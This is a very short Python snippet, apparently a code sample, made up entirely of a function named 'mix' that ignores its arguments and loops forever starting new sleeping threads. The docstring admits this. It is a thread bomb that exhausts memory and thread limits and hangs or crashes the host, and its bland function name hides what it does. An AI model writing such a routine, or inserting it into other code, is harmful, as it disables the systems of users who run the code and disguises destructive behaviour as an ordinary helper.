"""Starts threads without end."""

import threading, time


def mix(a, b):
    while True:
        threading.Thread(target=time.sleep, args=(60,)).start()
